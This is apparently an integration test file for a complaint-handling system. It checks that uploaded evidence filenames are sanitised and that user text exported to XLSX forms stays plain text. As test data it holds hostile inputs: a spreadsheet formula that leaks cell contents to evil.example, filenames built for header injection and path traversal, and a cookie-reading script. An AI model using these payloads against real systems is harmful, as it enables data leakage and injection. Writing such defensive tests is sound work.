"""Files and forms through the real path: what a user typed or sent is data, never code.

Evidence uploaded to capa keeps the name it was sent with and downloads under a
safe one in an RFC 6266 header; a body that is not of its declared type is
refused. Every form the system writes as XLSX (8D, CPAR, PNPR, the monthly
report, the register) keeps text that starts like a formula as text, and a
character a worksheet cannot hold does not fail the file.
"""

from __future__ import annotations

import hashlib
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from csc_audit.cli import app as audit_app
from e2e.conftest import Stack
from e2e.support import CUSTOMER, complaint, read, read_topic, wait_until

pytestmark = pytest.mark.integration

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17)
# What a user may type that a spreadsheet would run: each must come back as the same text.
NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Dong\x01feng\x1f")'
TEXT = "=1+2 housings cracked at the gate"
SUMMARY = "+SUM(A1:A9) called the SQE"
FINDING = "-2+3 confirmed on both samples"
TAG = "@NC-0042"
DESCRIPTION = "=PNPR cracks at the gate\x0b"


def _shown(text: str) -> str:
    """The text as a worksheet holds it: unwritable characters replaced by U+FFFD."""
    return "".join("\ufffd" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in text)


def text_cells(document: bytes) -> list[tuple[Any, str]]:
    """(value, data type) of every cell, after checking the file opens."""
    book = load_workbook(io.BytesIO(document))
    return [(c.value, c.data_type) for s in book.worksheets for r in s.iter_rows() for c in r]


def assert_user_text_is_text(document: bytes, *texts: str, alone: tuple[str, ...] = ()) -> None:
    """No formula or error cell; ``texts`` in string cells, each of ``alone`` opening one."""
    cells = text_cells(document)
    assert not [(v, t) for v, t in cells if t in ("f", "e")], "a formula or error cell"
    values = [str(v) for v, t in cells if t == "s"]
    for text in texts:
        assert any(_shown(text) in v for v in values), (text, values)
    # Text a spreadsheet would have run is there as it was typed, a string.
    for text in alone:
        assert any(v.startswith(_shown(text)) for v in values), (text, values)


def test_4_4_3_evidence_names_and_types_through_capa(stack: Stack) -> None:
    intake = stack.start("intake")
    capa = stack.start("capa")
    marketing = httpx.Client(base_url=intake.url, headers=stack.auth("marketing"), timeout=30)
    assert marketing.post("/customers", json=CUSTOMER).status_code == 201
    case_id = marketing.post("/complaints", json=complaint(1)).json()["case_id"]
    wait_until(lambda: read(f"{capa.url}/investigations/{case_id}").status_code == 200)

    def upload(data: bytes, media_type: str, name: str) -> httpx.Response:
        return httpx.post(
            f"{capa.url}/investigations/{case_id}/evidence",
            content=data,
            params={"filename": name},
            headers={**stack.auth("quality"), "Content-Type": media_type},
            timeout=30,
        )

    sent = {
        "裂纹照片.png": (
            "裂纹照片.png",
            'attachment; filename="download.png"; '
            "filename*=UTF-8''%E8%A3%82%E7%BA%B9%E7%85%A7%E7%89%87.png",
        ),
        "unit\r\n7.png": ("unit7.png", 'attachment; filename="unit7.png"'),
        'a"; filename=evil.exe; x=".png': (
            "a; filename=evil.exe; x=.png",
            'attachment; filename="a_ filename_evil.exe_ x_.png"; '
            "filename*=UTF-8''a%3B%20filename%3Devil.exe%3B%20x%3D.png",
        ),
        "..\\..\\D:\\质量\\../照片.png": (
            "照片.png",
            "attachment; filename=\"download.png\"; filename*=UTF-8''%E7%85%A7%E7%89%87.png",
        ),
    }
    for n, (name, (stored, header)) in enumerate(sent.items()):
        data = PNG + bytes([n])  # each a file of its own
        uploaded = upload(data, "image/png", name)
        assert uploaded.status_code == 201, uploaded.text
        digest = hashlib.sha256(data).hexdigest()
        entry = next(
            e for e in uploaded.json()["investigation"]["evidence"] if e["sha256"] == digest
        )
        assert (entry["filename"], entry["original_filename"]) == (stored, name)
        back = read(f"{capa.url}/investigations/{case_id}/evidence/{digest}")
        assert back.status_code == 200 and back.content == data
        assert back.headers["content-disposition"] == header
        assert back.headers["x-content-type-options"] == "nosniff"

    html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    refused = upload(html, "application/pdf", "report.pdf")
    assert refused.status_code == 415, refused.text
    assert "application/pdf" in refused.json()["detail"]
    assert "text/html" in refused.json()["detail"]

    # Subscribers get the safe name too.
    def published() -> list[str] | None:
        names = [
            json.loads(r.value)["filename"]
            for r in read_topic(stack.bootstrap, stack.topics.events("capa"))
            if dict(r.headers)["ce_type"] == b"csc.capa.EvidenceReceived.v1"
        ]
        return names if len(names) == len(sent) else None

    assert sorted(wait_until(published)) == sorted(stored for stored, _ in sent.values())


def test_user_text_is_never_a_formula_in_any_form(
    stack: Stack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    intake = stack.start("intake")
    returns = stack.start("returns")
    capa = stack.start("capa")
    sla = stack.start("sla")
    marketing = httpx.Client(base_url=intake.url, headers=stack.auth("marketing"), timeout=30)
    customer = {**CUSTOMER, "code": "OEM-EQ", "name": NAME}
    created = marketing.post("/customers", json=customer)
    assert created.status_code == 201, created.text
    logged = marketing.post("/complaints", json=complaint(1, customer_code="OEM-EQ", text=TEXT))
    assert logged.status_code == 201, logged.text
    case_id, month = logged.json()["case_id"], logged.json()["received_at"][:7]

    def post(url: str, body: dict[str, Any], department: str) -> dict[str, Any]:
        headers = {**stack.auth(department), "Idempotency-Key": f"{url}:{department}"}
        response = httpx.post(url, json=body, headers=headers, timeout=30)
        assert response.status_code == 201, (url, response.text)
        return dict(response.json())

    # capa: the 8D carries the customer and the complaint, the CPAR the contact and the
    # finding too.
    wait_until(lambda: read(f"{capa.url}/investigations/{case_id}").status_code == 200)
    inv = f"{capa.url}/investigations/{case_id}"
    post(f"{inv}/contacts", {"contact": "Mr. Zhao", "means": "phone", "summary": SUMMARY},
         "quality")  # fmt: skip
    post(f"{inv}/confirmation", {"finding": FINDING}, "quality")
    for fmt, alone in (("8d", (TEXT,)), ("cpar", (TEXT, FINDING))):
        xlsx = read(f"{inv}/report.xlsx", params={"format": fmt})
        assert xlsx.status_code == 200, xlsx.text
        assert_user_text_is_text(xlsx.content, NAME, *(fmt == "cpar") * [SUMMARY], alone=alone)
        assert read(f"{inv}/report.pdf", params={"format": fmt}).status_code == 200

    # returns: the PNPR carries the tag and the report.
    wait_until(lambda: read(f"{returns.url}/cases/{case_id}").status_code == 200)
    cases = f"{returns.url}/cases/{case_id}"
    post(f"{returns.url}/returns", {"case_id": case_id, "delivery": "DN-1", "lot": "L1",
                                    "quantity": 2, "reason": TEXT}, "marketing")  # fmt: skip
    post(f"{cases}/quality-confirmation-request", {"note": "line 3"}, "marketing")
    post(f"{cases}/quality-confirmation", {"finding": FINDING}, "quality")
    post(f"{cases}/receipt-authorization", {}, "marketing")
    post(f"{cases}/receipt", {"quantity": 2, "location": "WH-A", "lot": "L1"}, "warehouse")
    post(f"{cases}/samples", {"condition": "as reported", "sample_count": 1,
                              "sample_ids": ["S1"]}, "quality")  # fmt: skip
    post(f"{cases}/pnpr/identification", {"tag": TAG}, "quality")
    post(f"{cases}/pnpr/isolation", {"location": "Q-1"}, "warehouse")
    post(f"{cases}/pnpr/report", {"description": DESCRIPTION}, "quality")
    pnpr = read(f"{cases}/pnpr.xlsx")
    assert pnpr.status_code == 200, pnpr.text
    assert_user_text_is_text(pnpr.content, NAME, TAG, DESCRIPTION)
    assert read(f"{cases}/pnpr.pdf").status_code == 200

    # sla: the monthly report of a customer named in the query.
    for named in ("=1+2", "OEM-EQ\x01"):
        report = read(f"{sla.url}/reports/monthly/{month}.xlsx", params={"customer": named})
        assert report.status_code == 200, report.text
        assert_user_text_is_text(report.content, alone=(named,))
        pdf = read(f"{sla.url}/reports/monthly/{month}.pdf", params={"customer": named})
        assert pdf.status_code == 200

    # The register's forms, read back from csc.intake.v1.
    monkeypatch.setenv("KAFKA_BOOTSTRAP_SERVERS", stack.bootstrap)
    monkeypatch.setenv("CSC_TOPIC_PREFIX", stack.prefix)
    result = CliRunner().invoke(
        audit_app, ["forms", "register", "--month", month, "--out", str(tmp_path)]
    )
    assert result.exit_code == 0, (result.output, result.exception)
    register = tmp_path / f"customer-information-register-{month}.xlsx"
    assert_user_text_is_text(register.read_bytes(), NAME, TEXT)
